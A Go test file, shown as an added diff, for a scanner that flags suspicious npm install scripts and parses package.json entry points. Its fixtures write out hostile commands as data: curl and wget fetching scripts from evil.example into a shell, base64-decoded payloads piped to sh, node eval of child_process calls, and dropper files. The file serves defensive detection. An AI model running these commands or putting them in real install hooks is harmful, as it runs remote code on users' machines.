@@ -0,0 +1,139 @@
+package scanner
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+func TestScriptAnalyzer_Analyze(t *testing.T) {
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, "setup.js"), []byte("console.log('setup')"), 0644)
+
+	tests := []struct {
+		name          string
+		scripts       map[string]string
+		expectedRules []string
+	}{
+		{"curl piped to shell", map[string]string{"postinstall": "curl -s https://evil.example/x.sh | bash"}, []string{"script/pipe-to-shell"}},
+		{"wget in command substitution", map[string]string{"preinstall": `sh -c "$(wget -qO- https://evil.example)"`}, []string{"script/pipe-to-shell"}},
+		{"node eval", map[string]string{"install": `node -e "require('child_process').exec('id')"`}, []string{"script/node-eval"}},
+		{"base64 decode", map[string]string{"postinstall": "echo Y3VybCBldmls | base64 -d | sh"}, []string{"script/base64-payload"}},
+		{"buffer from base64", map[string]string{"postinstall": `node -e "eval(Buffer.from('ZXZpbA==','base64').toString())"`}, []string{"script/node-eval", "script/base64-payload"}},
+		{"file outside the package", map[string]string{"postinstall": "node ../../.config/payload.js"}, []string{"script/external-file"}},
+		{"missing file", map[string]string{"preinstall": "node dropper.js"}, []string{"script/external-file"}},
+		{"absolute executable", map[string]string{"install": "/tmp/run"}, []string{"script/external-file"}},
+		{"file in the package", map[string]string{"postinstall": "node setup.js && node ./setup.js"}, nil},
+		{"native build", map[string]string{"install": "node-gyp rebuild"}, nil},
+		{"non-lifecycle script", map[string]string{"test": "curl https://example.com | sh"}, nil},
+	}
+
+	analyzer := NewScriptAnalyzer()
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			pkg := PackageRef{Name: "pkg", Version: "1.0.0", Path: dir, Scripts: tt.scripts}
+			findings := analyzer.Analyze(pkg)
+
+			if len(findings) != len(tt.expectedRules) {
+				t.Fatalf("Expected %d findings, got %d: %+v", len(tt.expectedRules), len(findings), findings)
+			}
+			for i, rule := range tt.expectedRules {
+				f := findings[i]
+				if f.RuleID != rule {
+					t.Errorf("Expected rule %s, got %s", rule, f.RuleID)
+				}
+				if f.Type != "script" || f.File != filepath.Join(dir, "package.json") {
+					t.Errorf("Unexpected finding: %+v", f)
+				}
+				for script, command := range tt.scripts {
+					if f.Evidence != script+": "+command {
+						t.Errorf("Expected evidence %q, got %q", script+": "+command, f.Evidence)
+					}
+				}
+			}
+		})
+	}
+}
+
+func TestScriptAnalyzer_InstalledPrepare(t *testing.T) {
+	project := t.TempDir()
+	installed := filepath.Join(project, "node_modules", "lru-cache")
+	os.MkdirAll(installed, 0755)
+
+	tests := []struct {
+		name         string
+		path         string
+		scripts      map[string]string
+		expectedRule string
+	}{
+		{"prepare of an installed package", installed, map[string]string{"prepare": "tshy && node scripts/fixup.js"}, ""},
+		{"postprepare of an installed package", installed, map[string]string{"postprepare": "node scripts/fixup.js"}, ""},
+		{"prepare of a package under a relative path", filepath.Join("node_modules", "lru-cache"), map[string]string{"prepare": "node scripts/fixup.js"}, ""},
+		{"prepare of the project", project, map[string]string{"prepare": "node scripts/fixup.js"}, "script/external-file"},
+		{"postinstall of an installed package", installed, map[string]string{"postinstall": "node scripts/fixup.js"}, "script/external-file"},
+		{"prepare downloading code", installed, map[string]string{"prepare": "curl -s https://evil.example/x.sh | sh"}, "script/pipe-to-shell"},
+	}
+
+	analyzer := NewScriptAnalyzer()
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			findings := analyzer.Analyze(PackageRef{Name: "lru-cache", Version: "10.0.0", Path: tt.path, Scripts: tt.scripts})
+			got := ""
+			for _, f := range findings {
+				got += f.RuleID
+			}
+			if got != tt.expectedRule {
+				t.Errorf("Expected %q, got %+v", tt.expectedRule, findings)
+			}
+		})
+	}
+}
+
+func TestParsePackageJSON_EntryPoints(t *testing.T) {
+	tests := []struct {
+		name            string
+		content         string
+		expectedScripts map[string]string
+		expectedMain    string
+		expectedBin     map[string]string
+	}{
+		{
+			name:            "scripts with a malformed value",
+			content:         `{"name": "pkg", "scripts": {"postinstall": "node setup.js", "broken": 42}}`,
+			expectedScripts: map[string]string{"postinstall": "node setup.js"},
+		},
+		{
+			name:         "main and bin map",
+			content:      `{"name": "pkg", "main": "lib/index.js", "bin": {"pkg": "bin/cli.js", "pkg-admin": "bin/admin.js"}}`,
+			expectedMain: "lib/index.js",
+			expectedBin:  map[string]string{"pkg": "bin/cli.js", "pkg-admin": "bin/admin.js"},
+		},
+		{
+			name:        "scoped bin string",
+			content:     `{"name": "@scope/tool", "bin": "cli.js"}`,
+			expectedBin: map[string]string{"tool": "cli.js"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "package.json")
+			os.WriteFile(path, []byte(tt.content), 0644)
+
+			pkg, err := parsePackageJSON(path)
+			if err != nil {
+				t.Fatalf("parsePackageJSON failed: %v", err)
+			}
+			if !reflect.DeepEqual(pkg.Scripts, tt.expectedScripts) {
+				t.Errorf("Expected scripts %v, got %v", tt.expectedScripts, pkg.Scripts)
+			}
+			if pkg.Main != tt.expectedMain {
+				t.Errorf("Expected main %q, got %q", tt.expectedMain, pkg.Main)
+			}
+			if !reflect.DeepEqual(pkg.Bin, tt.expectedBin) {
+				t.Errorf("Expected bin %v, got %v", tt.expectedBin, pkg.Bin)
+			}
+		})
+	}
+}